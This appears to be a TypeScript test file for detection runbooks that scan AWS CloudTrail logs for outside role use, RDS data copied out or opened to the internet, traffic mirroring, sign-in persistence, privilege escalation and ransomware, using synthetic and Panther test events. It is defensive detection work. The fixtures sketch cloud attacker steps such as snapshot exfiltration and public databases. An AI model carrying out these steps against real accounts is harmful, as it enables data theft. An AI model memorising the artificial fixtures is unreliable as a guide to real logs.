    // session of another account, with a source identity (listed); 2: the same account's user
    // (not listed); 3: an AWSAccount record of the account itself (as Panther's
    // AWS.EC2.ManyPasswordReadAttempts record: not listed); 4: Lambda assuming its role
    // (AWSService, invokedBy: not listed); 5: the outside account refused (not listed); 6: an
    // organization account's role (not listed by default)
    assume(0, account("444455556666"), "prod-admin", "sync"),
    assume(
      1,
      {
        type: "AssumedRole",
        principalId: "AROAEXAMPLEOPS000001:alice",
        arn: "arn:aws:sts::210987654321:assumed-role/ops/alice",
        accountId: "210987654321",
      },
      "deploy",
      "alice",
      { sourceIPAddress: "203.0.113.9" },
      { sourceIdentity: "alice@example.net" },
    ),
    assume(2, MALLORY, "prod-admin", "mallory"),
    assume(3, account("123456789012"), "SampleRole", "SampleSession"),
    assume(4, { type: "AWSService", invokedBy: "lambda.amazonaws.com" }, "lambda-exec", "fn", {
      sourceIPAddress: "lambda.amazonaws.com",
    }),
    assume(5, account("444455556666"), "prod-admin", "again", {
      errorCode: "AccessDenied",
      responseElements: null,
    }),
    assume(6, account("222233334444"), "security-audit", "audit"),
    // 7: the allowed repository's workflow (not listed); 8: another repository's (listed); 9:
    // an EKS service account (not listed); 10: Google, the User Guide's example (listed); 11:
    // Cognito (listed); 12: a refused attempt of another repository (not listed)
    web(7, GITHUB, repo("example-corp/payments-api"), "ci-deployer", "sts.amazonaws.com"),
    web(8, GITHUB, repo("octo-intruder/scratch"), "ci-deployer", "sts.amazonaws.com"),
    web(9, EKS, "system:serviceaccount:orders:orders-api", "orders-irsa", "sts.amazonaws.com"),
    web(
      10,
      "accounts.google.com",
      "108365112345678901234",
      "web-app",
      "app.apps.googleusercontent.com",
    ),
    web(
      11,
      "cognito-identity.amazonaws.com",
      "us-east-1:0a1b2c3d",
      "Cognito_Unauth",
      "us-east-1:pool",
    ),
    {
      ...web(12, GITHUB, repo("octo-intruder/other"), "ci-deployer", "sts.amazonaws.com"),
      errorCode: "AccessDenied",
      responseElements: null,
    },
    // 13: Identity Center's own provider (not listed); 14: a Shibboleth provider, the User
    // Guide's example (listed)
    saml(
      13,
      SSO,
      "https://portal.sso.us-east-1.amazonaws.com/saml/assertion/x",
      "ann",
      "AWSReservedSSO_ReadOnly_0a1b",
    ),
    saml(
      14,
      SHIB,
      "https://server.example.com/idp/shibboleth",
      "SamlExample",
      "SAMLTestRoleShibboleth",
    ),
    // The guarded roles (mallory's prod-admin, 2, listed; 0, from outside, is the first step's
    // only): 15: a chain, dev-sandbox's session assuming prod-admin with a source identity
    // (listed); 16: a user assuming break-glass (listed); 17: Identity Center's administrator
    // set's session (allowed); 18: the automation (allowed); 19: the chain refused (not listed);
    // 20: the chain into a role not guarded (not listed); 21: an organization account's session
    // assuming OrgAdmin (listed here, the first step leaving the organization's accounts out)
    assume(
      15,
      session("dev-sandbox", "eve"),
      "prod-admin",
      "eve",
      { sourceIPAddress: "198.51.100.42" },
      { sourceIdentity: "eve@example.com" },
    ),
    assume(16, BOB, "break-glass", "bob"),
    assume(17, session(SSO_ADMIN, "ann"), "break-glass", "ann"),
    assume(18, session("terraform-automation", "run-42"), "prod-admin", "run-42"),
    assume(19, session("dev-sandbox", "eve"), "BreakGlass", "eve", {
      errorCode: "AccessDenied",
      responseElements: null,
    }),
    assume(20, session("dev-sandbox", "eve"), "deploy", "eve"),
    assume(21, session("ops", "carol", "222233334444"), "OrgAdmin", "carol", {
      sourceIPAddress: "203.0.113.9",
    }),
  ] as Event[];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/outside-role-use.md";

  it("lists other accounts, other repositories, other providers, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    // role, caller's account, caller, type, session, source identity, address, calls, first, last
    expect(step(reports, "outside_accounts").rows).toEqual([
      [
        ROLE("prod-admin"),
        "444455556666",
        "AIDAQRSTUVWXYZEXAMPLE",
        "AWSAccount",
        "sync",
        null,
        "198.51.100.7",
        1,
        at(0),
        at(0),
      ],
      [
        ROLE("deploy"),
        "210987654321",
        "arn:aws:sts::210987654321:assumed-role/ops/alice",
        "AssumedRole",
        "alice",
        "alice@example.net",
        "203.0.113.9",
        1,
        at(1),
        at(1),
      ],
    ]);
    expect(step(reports, "outside_accounts_insights").rows.map((r) => r[2])).toEqual([
      "444455556666",
      "210987654321",
    ]);
    expect(step(reports, "web_identities_outside").rows.map((r) => r.slice(0, 3))).toEqual([
      [ROLE("ci-deployer"), GITHUB, repo("octo-intruder/scratch")],
      [ROLE("web-app"), "accounts.google.com", "108365112345678901234"],
      [ROLE("Cognito_Unauth"), "cognito-identity.amazonaws.com", "us-east-1:0a1b2c3d"],
    ]);
    expect(step(reports, "web_identities_outside_insights").rowCount).toBe(3);
    expect(step(reports, "saml_outside").rows.map((r) => r.slice(0, 4))).toEqual([
      [
        ROLE("SAMLTestRoleShibboleth"),
        SHIB,
        "https://server.example.com/idp/shibboleth",
        "SamlExample",
      ],
    ]);
    expect(step(reports, "saml_outside_insights").rowCount).toBe(1);
    expectTruth(reports, events, OUTSIDE_ROLE_STEPS);
  });

  it("lists the guarded roles assumed by callers not allowed, a chain's issuer with it", async () => {
    const reports = await onJune1(runbook, events);
    const issuer = (role: string, id = "123456789012") => `arn:aws:iam::${id}:role/${role}`;
    // time, caller, the caller's session issuer, role, session name, source identity, address
    expect(step(reports, "guarded_roles_assumed").rows).toEqual([
      [at(2), MALLORY.arn, null, ROLE("prod-admin"), "mallory", null, "198.51.100.7"],
      [
        at(15),
        "arn:aws:sts::123456789012:assumed-role/dev-sandbox/eve",
        issuer("dev-sandbox"),
        ROLE("prod-admin"),
        "eve",
        "eve@example.com",
        "198.51.100.42",
      ],
      [at(16), BOB.arn, null, ROLE("break-glass"), "bob", null, "198.51.100.7"],
      [
        at(21),
        "arn:aws:sts::222233334444:assumed-role/ops/carol",
        issuer("ops", "222233334444"),
        ROLE("OrgAdmin"),
        "carol",
        null,
        "203.0.113.9",
      ],
    ]);
    expect(step(reports, "guarded_roles_assumed_insights").rows.map((r) => r[4])).toEqual([
      ROLE("prod-admin"),
      ROLE("prod-admin"),
      ROLE("break-glass"),
      ROLE("OrgAdmin"),
    ]);
    expectTruth(reports, events, OUTSIDE_ROLE_STEPS);
  });

  it("moves its verdicts with the accounts, repositories and providers allowed", async () => {
    const tuned = await onJune1(runbook, events, [
      ...["--param", "organization_accounts=^123456789012$"],
      ...["--param", "partner_accounts=^444455556666$"],
      ...["--param", "github_repositories=^repo:(example-corp|octo-intruder)/"],
      ...[
        "--param",
        "web_identity_providers=^(cognito-identity[.]amazonaws[.]com|accounts[.]google[.]com)$",
      ],
      ...["--param", "saml_providers=:saml-provider/Shibboleth$"],
      ...["--param", "guarded_roles=(?i):role/(prod-admin|break-glass)$"],
      ...[
        "--param",
        "allowed_assumers=:role/(dev-sandbox|aws-reserved/sso[.]amazonaws[.]com/AWSReservedSSO_[^/]+)$",
      ],
    ]);
    // the partner's rows go, the organization account no longer named is listed (its
    // OrgAdmin session among them)
    expect(step(tuned, "outside_accounts").rows.map((r) => [r[1], r[0]])).toEqual([
      ["210987654321", ROLE("deploy")],
      ["222233334444", ROLE("security-audit")],
      ["222233334444", ROLE("OrgAdmin")],
    ]);
    expect(step(tuned, "outside_accounts_insights").rowCount).toBe(3);
    // the partner's prod-admin assumption is judged here now, the automation is no longer
    // allowed, dev-sandbox's chain is (by its session issuer's ARN), Identity Center's still is
    // (by its issuer's path), OrgAdmin is no longer guarded
    expect(step(tuned, "guarded_roles_assumed").rows.map((r) => [r[1], r[3]])).toEqual([
      ["AIDAQRSTUVWXYZEXAMPLE", ROLE("prod-admin")],
      [MALLORY.arn, ROLE("prod-admin")],
      [BOB.arn, ROLE("break-glass")],
      ["arn:aws:sts::123456789012:assumed-role/terraform-automation/run-42", ROLE("prod-admin")],
    ]);
    expect(step(tuned, "guarded_roles_assumed_insights").rowCount).toBe(4);
    // the EKS cluster is no longer among the providers allowed
    expect(step(tuned, "web_identities_outside").rows.map((r) => r[1])).toEqual([EKS]);
    expect(step(tuned, "web_identities_outside_insights").rowCount).toBe(1);
    // Identity Center's provider is no longer among the providers allowed
    expect(step(tuned, "saml_outside").rows.map((r) => r[1])).toEqual([SSO]);
    expect(step(tuned, "saml_outside_insights").rowCount).toBe(1);
    expectTruth(tuned, events, OUTSIDE_ROLE_STEPS);
  });
});

describe("a value no Logs Insights regular expression literal can hold", () => {
  it.each([
    ["x\\", "ends with a lone backslash"],
    ["a\nb", "holds a line break"],
  ])("%j stops the run before any step, naming the parameter and the step", async (value, why) => {
    const dir = await mkdtemp(path.join(tmpdir(), "run-md-regex-param-"));
    try {
      await writeFile(path.join(dir, "events.json"), JSON.stringify({ Records: [] }));
      const res = await runMd([
        "runbooks/kms-key-deletion.md",
        "--log-dir",
        dir,
        "--no-report",
        "--json",
        "--param",
        `automation_pattern=${value}`,
      ]);
      expect(res.code).toBe(2);
      expect(res.stderr).toContain(
        `parameter "automation_pattern" (from --param) is a Logs Insights regular expression in step "key_policy_changes_insights" (runbooks/kms-key-deletion.md:97) and ${why}`,
      );
      // No step ran, the SQL steps before it included
      const reports = JSON.parse(res.stdout) as RunReport[];
      expect(reports.map((r) => r.steps.length)).toEqual([0]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

/**
 * rds-data-protection on Panther's AWS.RDS.* test cases, read by hand from the records: each
 * step lists the True cases of the rules that fit it and none of their False ones (refused calls,
 * same-region copies, automated and AWS Backup snapshots, private restores, protection turned
 * on, other RDS calls). Deliberately listed though Panther says False: the two CreateDBSnapshot
 * records of Admin/user (the "Different RDS Event" cases of SnapshotDeleted and SnapshotExport):
 * a manual snapshot by hand is what step 1 lists; and johndoe's CreateDBInstance, publicly
 * accessible (PublicRestore's "Not-Restore-RDS-Request"): a new public database is step 2's.
 * Deliberately not listed though Panther says True: an ingress from one /24 or from an EC2
 * security group (SecurityGroupIngressAuthorized reports every ingress; neither opens the
 * database to the internet), and the instance and cluster deleted with a final snapshot
 * (InstanceDeletion reports every deletion; the data is kept). Reboots, failovers and snapshot
 * enumeration are left out of the runbook.
 */
function expectRdsCases(reports: RunReport[]) {
  const step = (id: string) =>
    reports.find((r) => r.runbook.id === "rds-data-protection")!.steps.find((s) => s.id === id)!;
  for (const s of reports.find((r) => r.runbook.id === "rds-data-protection")!.steps)
    expect(s.status, s.id).toBe("failed");
  const ADMIN = "arn:aws:sts::123456789012:assumed-role/Admin/user";
  const CONTRACTOR = "arn:aws:iam::123456789012:user/contractor";
  const DEVELOPER = "arn:aws:iam::123456789012:user/developer";
  const FAKE = "arn:aws:sts::123456789012:assumed-role/ARole/fake.user";
  // actor, call, source, destination: exports, cross-region copies, the public restore, roles
  // added, manual (and public) snapshots and log downloads
  const copied = [
    [
      "arn:aws:iam::123456789012:user/johndoe",
      "RestoreDBInstanceFromDBSnapshot",
      null,
      "test-instance",
    ],
    [FAKE, "CreateDBSnapshot", "terraform-20231208145149286600000001", "exfiltration"],
    [
      DEVELOPER,
      "StartExportTask",
      "arn:aws:rds:us-east-1:123456789012:snapshot:production-db-snapshot",
      "temp-export-external-bucket",
    ],
    [ADMIN, "CreateDBSnapshot", "my-db-instance", "my-snapshot"],
    [
      ADMIN,
      "StartExportTask",
      "arn:aws:rds:us-east-1:123456789012:snapshot:my-db-snapshot",
      "my-export-bucket",
    ],
    [ADMIN, "CreateDBSnapshot", "my-database", "new-backup"],
    [
      CONTRACTOR,
      "CopyDBClusterSnapshot",
      "arn:aws:rds:us-east-1:123456789012:cluster-snapshot:aurora-prod-backup",
      "aurora-prod-backup-eu",
    ],
    [
      "arn:aws:sts::123456789012:assumed-role/DeveloperRole/user",
      "CopyDBSnapshot",
      "arn:aws:rds:us-east-1:123456789012:snapshot:prod-backup-2024",
      "prod-backup-2024-copy",
    ],
    [
      DEVELOPER,
      "AddRoleToDBCluster",
      "aurora-cluster-prod",
      "arn:aws:iam::123456789012:role/RDS-Lambda-Access",
    ],
    [
      "arn:aws:sts::123456789012:assumed-role/DBARole/user",
      "AddRoleToDBInstance",
      "production-postgres",
      "arn:aws:iam::123456789012:role/RDS-S3-Import-Role",
    ],
    [CONTRACTOR, "DownloadDBLogFilePortion", "customer-database", "audit/server_audit.log"],
    [
      "arn:aws:sts::123456789012:assumed-role/DBARole/dba",
      "DownloadDBLogFilePortion",
      "production-mysql",
      "error/mysql-error.log",
    ],
  ];
  expect(
    step("data_copied_out")
      .rows.map((r) => [r[0], r[1], r[3], r[4]])
      .sort(),
  ).toEqual(copied.sort());
  // the manual and the public snapshot (ARole) are one group: the automated and AWS Backup ones
  // (same identity, same names) are not counted
  expect(step("data_copied_out").rows.find((r) => r[0] === FAKE)?.[6]).toBe(2);
  expect(step("data_copied_out_insights").rowCount).toBe(11);
  // made public by a change, at creation or by a restore, and a DB security group opened to 0.0.0.0/0
  const opened = [
    ["arn:aws:iam::123456789012:user/johndoe", "CreateDBInstance", "test-instance"],
    ["arn:aws:iam::123456789012:user/johndoe", "RestoreDBInstanceFromDBSnapshot", "test-instance"],
    [
      "arn:aws:sts::123456789012:assumed-role/DeveloperRole/developer",
      "ModifyDBInstance",
      "production-db",
    ],
    [CONTRACTOR, "ModifyDBCluster", "aurora-cluster"],
    [
      "arn:aws:sts::123456789012:assumed-role/CompromisedRole/attacker",
      "ModifyDBInstance",
      "customer-database",
    ],
    [CONTRACTOR, "AuthorizeDBSecurityGroupIngress", "database-sg"],
  ];
  expect(
    step("opened_to_internet")
      .rows.map((r) => r.slice(1, 4))
      .sort(),
  ).toEqual(opened.sort());
  expect(step("opened_to_internet_insights").rowCount).toBe(6);
  const removed = [
    ["ModifyDBInstance", "my-database", "master password reset"],
    ["DeleteDBInstance", "customer-data-db", "deleted without a final snapshot"],
    ["ModifyDBInstance", "production-mysql", "deletion protection off"],
    ["ModifyDBCluster", "aurora-production", "deletion protection off, backup retention 0"],
    ["ModifyDBInstance", "customer-database", "deletion protection off"],
    [
      "StopActivityStream",
      "arn:aws:rds:us-east-1:123456789012:cluster:production-aurora",
      "activity stream stopped",
    ],
    ["DeleteDBSnapshot", "backup-2024-01-15", "snapshot deleted"],
    ["DeleteDBClusterSnapshot", "aurora-cluster-backup-2024", "snapshot deleted"],
    ["DeleteDBInstanceAutomatedBackup", "db-ABCDEF1234567890", "automated backups deleted"],
    ["DeleteDBClusterAutomatedBackup", "cluster-GHIJKL9876543210", "automated backups deleted"],
  ];
  expect(
    step("protection_removed")
      .rows.map((r) => r.slice(2, 5))
      .sort(),
  ).toEqual(removed.sort());
  expect(step("protection_removed_insights").rowCount).toBe(10);
}

/**
 * network-paths on Panther's AWS.EC2.* and NetworkACLPermissiveEntry test cases, read by hand
 * from the records: each step lists the True cases that fit it and none of the False ones
 * (refused calls, Describe* reads, an unrelated CodeBuild call). Deliberately listed though
 * Panther says False: the egress allow-all entry to 0.0.0.0/0 that AWS.EC2.MultiInstanceConnect
 * uses as its "Unrelated Event" (the same entry as NetworkACLModified's True case: step 3's
 * whole subject). Deliberately not listed though Panther says True: the CreateVpc of
 * VPCModified (a new VPC opens no path until a gateway, a route or a peering does, which are
 * listed), and NetworkACLPermissiveEntry's TCP 700-702 from 0.0.0.0/0 (three ports, not all
 * traffic: listed once wide_port_count is lowered to 3, which the test below shows); the refused
 * CreateTrafficMirrorSession, which Panther's rule also reports, is listed with its error.
 */
function expectNetworkCases(reports: RunReport[]) {
  const report = reports.find((r) => r.runbook.id === "network-paths")!;
  const step = (id: string) => report.steps.find((s) => s.id === id)!;
  for (const s of report.steps) expect(s.status, s.id).toBe("failed");
  const MIRROR = "arn:aws:sts::123123123123:assumed-role/MakeStuffPublic";
  const TESTER = "arn:aws:sts::123456789012:assumed-role/tester";
  expect(
    step("traffic_mirrored")
      .rows.map((r) => [r[1], r[2], r[7]])
      .sort(),
  ).toEqual(
    [
      [MIRROR, "CreateTrafficMirrorFilter", null],
      [MIRROR, "CreateTrafficMirrorFilterRule", null],
      [MIRROR, "CreateTrafficMirrorSession", "Client.NetworkInterfaceNotSupported"],
      [MIRROR, "CreateTrafficMirrorTarget", null],
      [MIRROR, "DeleteTrafficMirrorTarget", null],
      [MIRROR, "ModifyTrafficMirrorSession", null],
    ].sort(),
  );
  expect(step("traffic_mirrored_insights").rowCount).toBe(6);
  // GatewayModified's and RouteTableModified's True cases, never their refused twins
  expect(step("paths_opened").rows.map((r) => [r[1], r[2], r[4], r[5], r[6]])).toEqual([
    [TESTER, "AttachInternetGateway", "internet gateway", "vpc-1", "igw-1"],
    [TESTER, "CreateRoute", "route to every address", "rtb-1", "igw-1"],
  ]);
  expect(step("paths_opened_insights").rowCount).toBe(2);
  // NetworkACLModified's True case and its twin, egress, every protocol
  expect(step("nacl_open_to_world").rows.map((r) => [r[1], r[4], r[6], r[7], r[8]])).toEqual([
    [TESTER, "acl-1", "egress", "0.0.0.0/0", "-1"],
    [TESTER, "acl-1", "egress", "0.0.0.0/0", "-1"],
  ]);
  expect(step("nacl_open_to_world_insights").rowCount).toBe(2);
}

/**
 * sign-in-persistence on Panther's AWS.Suspicious.SAML.Activity, AWS.User.Login.Profile.Modified,
 * AWS.CloudTrail.LoginProfileCreatedOrModified and AWS.Console.GetSigninToken.Abuse cases, rows
 * counted by hand from the records: step 1 lists the three SAML provider changes a template made
 * under a role that is not the automation (True), never Identity Center's service role creating
 * its own provider nor ListAccessKeys (False); step 3 lists the role session's GetSigninToken
 * (True), never the access portal's AWSReservedSSO_ session nor a ConsoleLogin (False). Step 2
 * lists the password set for bob (True, in both rules) and, deliberately, the rules' False cases
 * too: "ChangeOwnPassword" (twice) is the role session IAM/alice setting the IAM user alice's
 * password, and a session's name is whatever its assumer chose, no proof whose password it is;
 * "reset required" is a password set for bob with passwordResetRequired true, which whoever set
 * it still signs in with once (choosing the next one and locking bob out).
 */
function expectSignInCases(reports: RunReport[]) {
  const report = reports.find((r) => r.runbook.id === "sign-in-persistence")!;
  const step = (id: string) => report.steps.find((s) => s.id === id)!;
  for (const s of report.steps) expect(s.status, s.id).toBe("failed");
  const TEMPLATE = "arn:aws:sts::0123456789:assumed-role/role/account";
  expect(step("identity_providers_changed").rows.map((r) => [r[1], r[2], r[3]])).toEqual([
    [TEMPLATE, "iam.amazonaws.com", "CreateSAMLProvider"],
    [TEMPLATE, "iam.amazonaws.com", "DeleteSAMLProvider"],
    [TEMPLATE, "iam.amazonaws.com", "UpdateSAMLProvider"],
  ]);
  expect(step("identity_providers_changed_insights").rowCount).toBe(3);
  const ALICE = "arn:aws:sts::98765432:assumed-role/IAM/alice";
  expect(
    step("sign_in_given_to_others")
      .rows.map((r) => [r[1], r[2], r[3], r[4]])
      .sort(),
  ).toEqual(
    [
      [ALICE, "UpdateLoginProfile", "alice", "false"],
      [ALICE, "UpdateLoginProfile", "alice", "false"],
      [ALICE, "UpdateLoginProfile", "bob", "false"],
      [ALICE, "UpdateLoginProfile", "bob", "false"],
      [ALICE, "UpdateLoginProfile", "bob", "true"],
    ].sort(),
  );
  expect(step("sign_in_given_to_others_insights").rowCount).toBe(5);
  expect(step("console_from_keys").rows.map((r) => r.slice(1, 6))).toEqual([
    [
      "arn:aws:sts::123456789012:assumed-role/MyRole/session",
      "AssumedRole",
      null,
      "ASIAIOSFODNN7EXAMPLE",
      "python-requests/2.28.0",
    ],
  ]);
  expect(step("console_from_keys_insights").rowCount).toBe(1);
}

/**
 * build-and-registry on Panther's AWS.ECR.CRUD, AWS.ECR.EVENTS,
 * AWS.CloudTrail.CodebuildProjectMadePublic and AWS.CloudTrail.ResourceMadePublic (ECR) cases,
 * rows counted by hand from the records: step 1 lists the template's repository policy letting
 * "*" pull (True) and the six PutImage records, the rules' True cases (an account or region
 * outside their allow-lists) and, deliberately, their two "Authorized account" False cases too:
 * each is an image pushed with an IAM user's key (user/DeployRole, user/Mary_Major), not by the
 * pipeline's roles, and whose account or region it is does not make a push by hand the
 * pipeline's. Step 3 lists the project made public (True; the same record again as
 * AWS.EC2.Traffic.Mirroring's unrelated event, line 141, deliberately: it is the same call),
 * never the project made private nor the CreateProject without a role (False). No record is
 * an EKS call: step 2 passes.
 */
function expectBuildCases(reports: RunReport[]) {
  const report = reports.find((r) => r.runbook.id === "build-and-registry")!;
  const step = (id: string) => report.steps.find((s) => s.id === id)!;
  const mary = (account: string) => `arn:aws:sts::${account}:user/Mary_Major`;
  const push = (actor: string) => [actor, "PutImage", "testrepo", "image pushed", "latest"];
  expect(
    step("registries_opened")
      .rows.map((r) => r.slice(1, 6))
      .sort(),
  ).toEqual(
    [
      push(mary("123456789012")),
      push(mary("123456789012")),
      push(mary("123456789012")),
      push(mary("123456789012")),
      push(mary("123456789000")),
      push("arn:aws:sts::123456789000:user/DeployRole"),
      [
        "arn:aws:sts::112233445566:assumed-role/ServiceRole/AWSCloudFormation",
        "SetRepositoryPolicy",
        "community",
        "opened to anyone",
        "*",
      ],
    ].sort(),
  );
  expect(step("registries_opened_insights").rowCount).toBe(7);
  expect(step("clusters_opened").status).toBe("passed");
  expectNoRows(step("clusters_opened_insights"));
  const project = "arn:aws:codebuild:us-east-1:111122223333:project/testproject1234";
  const made = [
    "arn:aws:sts::111122223333:assumed-role/MakeStuffPublic",
    "UpdateProjectVisibility",
    project,
    "project made public",
    "PUBLIC_READ",
  ];
  expect(step("builds_hijacked").rows.map((r) => r.slice(1, 6))).toEqual([made, made]);
  expect(step("builds_hijacked_insights").rowCount).toBe(2);
}

/**
 * privilege-escalation on Panther's cases. Listed on purpose: AWS.IAM.AccessKeyCompromised's
 * "Request Param is null" (False there), a user's inline policy put outside the automation
 * whose content the record lacks (a permission change nobody can read is still one). Not
 * listed, on purpose: AWS.CloudTrail.CodebuildProjectMadePublic's "Not a UpdateProjectVisibility
 * event", a CodeBuild project created by hand (CodeBuild is build-and-registry's; this record
 * holds no request, so no role, and build-and-registry does not list it either); the deny-only
 * policies (AccessKeyCompromised's True case, AWS's quarantine policy on the user whose key
 * leaked; IAMCompromisedKeyQuarantine's deny-all by a responder);
 * AWS.IAM.AttachAdminUserPolicy / AttachAdminRolePolicy (True: AdministratorAccess attached to
 * new-user and new-role by another identity), audit-iam's policy_attachments, which fails on
 * them (checked here), not repeated; AWS.IAM.PolicyModified's True case, a group's inline policy
 * deleted (a permission taken away); AWS.CloudTrail.IAMAnythingChanged's True case, CloudFormation
 * attaching a policy to a role it made. The Logs Insights twins list the same records.
 */
function expectPrivilegeCases(reports: RunReport[]) {
  const report = reports.find((r) => r.runbook.id === "privilege-escalation")!;
  const step = (id: string) => report.steps.find((s) => s.id === id)!;
  const COMPROMISED = "arn:aws:iam::123456789012:user/compromised_user";
  expect(step("policies_rewritten").rows.map((r) => r.slice(0, 6))).toEqual([
    ["2020-04-10T06:22:08Z", COMPROMISED, "PutUserPolicy", null, null, null],
  ]);
  expect(step("policies_rewritten_insights").rowCount).toBe(1);
  expectNoRows(step("identities_moved_into_power"));
  expectNoRows(step("identities_moved_into_power_insights"));
  expectNoRows(step("roles_passed_to_compute"));
  expectNoRows(step("roles_passed_to_compute_insights"));
  const attachments = reports
    .find((r) => r.runbook.id === "audit-iam")!
    .steps.find((s) => s.id === "policy_attachments")!;
  const offending = JSON.stringify(attachments.checks.flatMap((c) => c.offendingRows ?? []));
  for (const target of ["new-user", "new-role"])
    expect(offending, target).toContain(
      `"target":"${target}","policy":"arn:aws:iam::aws:policy/AdministratorAccess"`,
    );
}

/**
 * account-guardrails on Panther's Standard.NewAWSAccountCreated cases, counted by hand from the
 * records: the CreateAccountResult service event that succeeded (True) is the one row of
 * organization_changed (no caller; no automation's request in the data returned its id), and
 * the False case, a CreateAccount record without an eventSource, is not listed (the step reads
 * organizations.amazonaws.com's records only). AWS.EC2.EBS.Encryption.Disabled's True record has
 * no eventTime, so it is in no window here (the crafted describe gives it one); its False case
 * (DescribeInstanceStatus) is no change. AWS.CloudTrail.SecurityConfigurationChange's cases are
 * CloudTrail's (cloudtrail-tampering's) and AWS.CloudTrail.Password.Policy.Discovery's are reads
 * (reconnaissance's): the other steps pass.
 */
function expectGuardrailCases(reports: RunReport[]) {
  const report = reports.find((r) => r.runbook.id === "account-guardrails")!;
  const step = (id: string) => report.steps.find((s) => s.id === id)!;
  expect(step("organization_changed").rows).toEqual([
    [
      "2021-05-20 15:53:47Z",
      null,
      "CreateAccountResult",
      "1111111111111111",
      "account created",
      "****",
      null,
    ],
  ]);
  for (const id of [
    "guardrails_lifted",
    "guardrails_lifted_insights",
    "organization_changed_insights",
    "settings_weakened",
    "settings_weakened_insights",
  ])
    expect(step(id).status, id).toBe("passed");
}

/**
 * outside-role-use on Panther's assumption records, read by hand: every AssumeRole among them is
 * an account's own principal's (AWS.CloudTrail.IAMAssumeRoleBlacklistIgnored's True case: the
 * account's user example-user assuming FullAdminRole, which the guarded roles' steps list, a
 * user being no Identity Center session nor the automation; its False cases: another role,
 * example-role, and FullAdminRole refused with ExpiredToken, not listed), an AWS service's
 * (Role.Assumed.by.AWS.Service True and Role.Assumed.by.User False: Lambda, AWSService with
 * invokedBy), an AWSAccount record of the account itself (AWS.EC2.ManyPasswordReadAttempts'), a
 * console sign-in's (signin.amazonaws.com) or a caller without an account
 * (the TruffleHog and GetSessionToken records): none from outside, so every other step passes with
 * no row; AWS.Suspicious.SAML.Activity's records are providers changed, not used.
 */
function expectOutsideRoleCases(reports: RunReport[]) {
  const report = reports.find((r) => r.runbook.id === "outside-role-use")!;
  const guarded = ["guarded_roles_assumed", "guarded_roles_assumed_insights"];
  for (const s of report.steps.filter((x) => !guarded.includes(x.id))) {
    expect(s.status, s.id).toBe("passed");
    expectNoRows(s);
  }
  const rows = report.steps.find((s) => s.id === "guarded_roles_assumed")!.rows;
  expect(rows).toEqual([
    [
      "2019-01-01T00:00:00Z",
      "arn:aws:iam::123456789012:user/example-user",
      null,
      "arn:aws:iam::123456789012:role/FullAdminRole",
      "1111",
      null,
      "111.111.111.111",
    ],
  ]);
  for (const id of guarded)
    expect(report.steps.find((s) => s.id === id)!.status, id).toBe("failed");
  expect(
    pantherRecords([
      "AWS.CloudTrail.IAMAssumeRoleBlacklistIgnored",
      "Role.Assumed.by.User",
      "Role.Assumed.by.AWS.Service",
    ]).filter((e) => field(e, "eventName") === "AssumeRole"),
  ).toHaveLength(5);
}

/** A record's event source and name are these. */
function is(e: Event, source: string, name: string): boolean {
  return field(e, "eventSource") === source && field(e, "eventName") === name;
}

/** bedrock-model-use's steps and access-key-lifecycle's federation tokens. */
const MODEL_STEPS = [
  "bedrock-model-use/model_use",
  "bedrock-model-use/model_use_insights",
  "bedrock-model-use/invocation_volume",
  "bedrock-model-use/invocation_volume_insights",
  "access-key-lifecycle/federation_tokens",
  "access-key-lifecycle/federation_tokens_insights",
];

/** The steps of the runbooks for credential access, instance access, Lambda and Bedrock. */
const TECHNIQUE_STEPS = [
  ...MODEL_STEPS,
  "lambda-changes/function_changes",
  "lambda-changes/function_changes_insights",
  "credential-access/reads_outside_workloads",
  "credential-access/reads_outside_workloads_insights",
  "credential-access/bulk_reads",
  "credential-access/instance_credentials_elsewhere",
  "remote-execution/instance_access",
  "remote-execution/instance_access_insights",
  "remote-execution/unusual_instances",
  "remote-execution/unusual_instances_insights",
];

/** s3-ransomware's steps. */
const S3_RANSOMWARE_STEPS = [
  "s3-ransomware/customer_key_writes",
  "s3-ransomware/customer_key_writes_insights",
  "s3-ransomware/bulk_deletions",
  "s3-ransomware/bulk_deletions_insights",
  "s3-ransomware/protection_removed",
  "s3-ransomware/protection_removed_insights",
];

/** rds-data-protection's steps. */
const RDS_STEPS = [
  "rds-data-protection/data_copied_out",
  "rds-data-protection/data_copied_out_insights",
  "rds-data-protection/opened_to_internet",
  "rds-data-protection/opened_to_internet_insights",
  "rds-data-protection/protection_removed",
  "rds-data-protection/protection_removed_insights",
];

/** reconnaissance's steps. */
const RECONNAISSANCE_STEPS = [
  "reconnaissance/tool_activity",
  "reconnaissance/tool_activity_insights",
  "reconnaissance/enumeration_bursts",
  "reconnaissance/enumeration_bursts_insights",
  "reconnaissance/email_sending",
  "reconnaissance/email_sending_insights",
  "reconnaissance/region_use",
  "reconnaissance/region_use_insights",
];

/** network-paths' steps. */
const NETWORK_STEPS = [
  "network-paths/traffic_mirrored",
  "network-paths/traffic_mirrored_insights",
  "network-paths/paths_opened",
  "network-paths/paths_opened_insights",
  "network-paths/nacl_open_to_world",
  "network-paths/nacl_open_to_world_insights",
];

/** build-and-registry's steps. */
const BUILD_STEPS = [
  "build-and-registry/registries_opened",
  "build-and-registry/registries_opened_insights",
  "build-and-registry/clusters_opened",
  "build-and-registry/clusters_opened_insights",
  "build-and-registry/builds_hijacked",
  "build-and-registry/builds_hijacked_insights",
];

/** account-guardrails' steps. */
const GUARDRAIL_STEPS = [
  "account-guardrails/guardrails_lifted",
  "account-guardrails/guardrails_lifted_insights",
  "account-guardrails/organization_changed",
  "account-guardrails/organization_changed_insights",
  "account-guardrails/settings_weakened",
  "account-guardrails/settings_weakened_insights",
];

/** sign-in-persistence's steps. */
const SIGN_IN_STEPS = [
  "sign-in-persistence/identity_providers_changed",
  "sign-in-persistence/identity_providers_changed_insights",
  "sign-in-persistence/sign_in_given_to_others",
  "sign-in-persistence/sign_in_given_to_others_insights",
  "sign-in-persistence/console_from_keys",
  "sign-in-persistence/console_from_keys_insights",
];

/** privilege-escalation's steps. */
const PRIVILEGE_STEPS = [
  "privilege-escalation/policies_rewritten",
  "privilege-escalation/policies_rewritten_insights",
  "privilege-escalation/identities_moved_into_power",
  "privilege-escalation/identities_moved_into_power_insights",
